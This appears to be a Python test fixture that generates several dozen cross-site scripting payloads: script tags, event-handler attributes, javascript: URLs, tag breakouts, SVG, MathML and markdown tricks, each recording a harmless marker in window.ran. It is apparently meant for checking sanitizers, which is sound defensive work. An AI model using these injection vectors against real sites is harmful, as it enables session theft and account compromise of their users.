"""Sixty ways to have a page run a script that stands in a text; each would add its number to `window.ran`."""

_DOES = "(window.ran=window.ran||[]).push({n})"
_WAYS = r"""
<script>{}</script>
<SCRIPT>{}</SCRIPT>
<script src="data:text/javascript,{}"></script>
<script type=module>{}</script>
<scr<script>ipt>{}</script>
</script><script>{}</script>
</textarea><script>{}</script>
</title><script>{}</script>
</style><script>{}</script>
</option></select><img src=x onerror="{}">
--><script>{}</script>
]]><script>{}</script>
<img src=x onerror="{}">
<img src=x onerror='{}'>
<img src=x onerror={}>
<img/src=x/onerror="{}">
<IMG SRC=x ONERROR="{}">
<img src=x onload="{}" onerror="{}">
<svg onload="{}">
<svg/onload="{}">
<svg><script>{}</script></svg>
<svg><animate onbegin="{}" attributeName=x dur=1s>
<svg><set onbegin="{}" attributeName=x dur=1s>
<svg><a xlink:href="javascript:{}"><text y=9>x</text></a></svg>
<svg><foreignObject><img src=x onerror="{}"></foreignObject></svg>
<math><mtext><img src=x onerror="{}"></mtext></math>
<math><annotation-xml encoding="text/html"><img src=x onerror="{}"></annotation-xml></math>
<body onload="{}">
<body onpageshow="{}">
<iframe srcdoc="<script>parent.{}</script>"></iframe>
<iframe src="javascript:parent.{}"></iframe>
<iframe onload="{}"></iframe>
<object data="javascript:{}" onerror="{}"></object>
<embed src="javascript:{}">
<video src=x onerror="{}"></video>
<video><source onerror="{}"></video>
<audio src=x onerror="{}"></audio>
<input autofocus onfocus="{}">
<textarea autofocus onfocus="{}"></textarea>
<select autofocus onfocus="{}"></select>
<button autofocus onfocus="{}">x</button>
<details open ontoggle="{}"><summary>x</summary></details>
<marquee onstart="{}">x</marquee>
<style onload="{}">x</style>
<style>@keyframes x{from{top:0}}</style><b style="animation:x 1s" onanimationstart="{}">x</b>
<link rel=stylesheet href="data:text/css,x" onload="{}">
<meta http-equiv=refresh content="0;url=javascript:{}">
<base href="javascript:{}//">
<form action="javascript:{}"><input type=submit></form>
<a href="javascript:{}">x</a>
<a href="jav&#x09;ascript:{}">x</a>
<div style="background:url(javascript:{})">x</div>
<template><img src=x onerror="{}"></template><img src=x onerror="{}">
<noscript><p title="</noscript><img src=x onerror={}>">
<x onclick="{}" tabindex=1 autofocus onfocus="{}">x</x>
" onfocus="{}" autofocus="
' onmouseover='{}' x='
"><img src=x onerror="{}">
'><img src=x onerror="{}">
`${{}}`
{{{}}}
javascript:{}
[x](javascript:{})
![x](x" onerror="{})
$\href{javascript:{}}{x}$
$$\unicode{<img src=x onerror={}>}$$
```{}```
""".strip().split("\n")
_WAYS += ["\u202e" + '<img src=x onerror="{}">', "<\0img src=x onerror='{}'>"]

PAYLOADS = [way.replace("{}", _DOES.replace("{n}", str(n))) for n, way in enumerate(_WAYS)]
